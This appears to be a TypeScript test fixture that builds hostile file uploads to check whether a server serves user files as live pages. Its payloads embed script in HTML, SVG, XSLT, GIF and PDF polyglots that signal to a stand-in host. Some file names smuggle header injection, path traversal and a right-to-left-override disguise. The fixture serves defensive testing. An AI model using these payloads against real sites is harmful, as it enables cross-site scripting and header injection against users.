/** What every payload tries: a binding of the test, a dialog, a request to elsewhere, a mark on the page. */
const JS = `try{top.pwned('run')}catch{};try{pwned('run')}catch{};document.title='pwned';alert(1);fetch('http://foreign.test/hit');new Image().src='http://foreign.test/img'`;
const HTML = `<!doctype html><html><body onload="${JS.replaceAll('"', '&quot;')}"><script>${JS}</script><img src=x onerror="${JS.replaceAll('"', '&quot;')}"><iframe src="javascript:${JS.replaceAll('"', '&quot;')}"></iframe><meta http-equiv="refresh" content="0;url=http://foreign.test/away"></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${JS.replaceAll('"', '&quot;')}"><script>${JS}</script><image xlink:href="http://foreign.test/i.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${JS.replaceAll('"', '&quot;')}"/></foreignObject></svg>`;
const XSLT = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${JS}</script></html></xsl:template></xsl:stylesheet></d>`;
const GIF = `GIF89a=1;/*${'\0'.repeat(20)}*/${JS}`;
const MHTML = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://foreign.test/\r\n\r\n${HTML}\r\n--b--\r\n`;
const PDF_WITH_SCRIPT = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://foreign.test/pdf'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/URI/URI(http://foreign.test/uri)>>>>>>endobj
trailer<</Root 1 0 R>>`;
const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

/** Uploads that a careless server would let run as a page of its own. */
export const hostileFiles: readonly { name: string; bytes: Uint8Array<ArrayBuffer> }[] = [
  ['plain.svg', SVG],
  ['declared.svg', `<?xml version="1.0" encoding="UTF-8"?>\n${SVG}`],
  ['picture.png', SVG],
  ['late.svg', `<!-- ${'x'.repeat(10_000)} -->${SVG}`],
  ['utf16.svg', utf16(SVG)],
  ['page.html', HTML],
  ['page.htm', ` \n\t${HTML}`],
  ['bom.html', `\uFEFF${HTML}`],
  ['utf16.html', utf16(HTML)],
  ['utf7.html', `+ADw-script+AD4-${JS}+ADw-/script+AD4-`],
  ['fragment', `<script>${JS}</script>`],
  ['homework.pdf', HTML],
  ['notes.txt', HTML],
  ['photo.jpg', `\u00ff\u00d8\u00ff<html>${HTML}`],
  ['page.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${JS}</script></html>`],
  ['sheet.xml', XSLT],
  ['feed.xml', `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${JS}</x:script>`],
  ['polyglot.gif', GIF],
  ['polyglot.js', `${GIF}//`],
  ['header.gif', `GIF89a${HTML}`],
  ['pdf-and-page.pdf', `%PDF-1.4\n${HTML}`],
  ['script.pdf', PDF_WITH_SCRIPT],
  ['saved.mhtml', MHTML],
  ['movie.swf', Buffer.from('465753094f0000007800055f00000fa000000c01004411', 'hex')],
  ['script.js', JS],
  ['module.mjs', `export default 1;${JS}`],
  ['worker.wasm', Buffer.from('0061736d01000000', 'hex')],
  ['bytes-then-page.bin', `\0\0\0\0${HTML}`],
  ['<img src=x onerror=pwned(1)>.html', HTML],
  ['"; filename="x.html', HTML],
  ['a\r\nContent-Type: text/html\r\n\r\n<script>pwned(1)</script>', HTML],
  ['homework\u202Efdp.html', HTML],
  ['../../../../index.html', HTML],
  ['%0d%0aSet-Cookie: a=b.svg', SVG],
].map(([name, bytes]) => ({ name: String(name), bytes: Uint8Array.from(Buffer.from(bytes ?? '')) }));
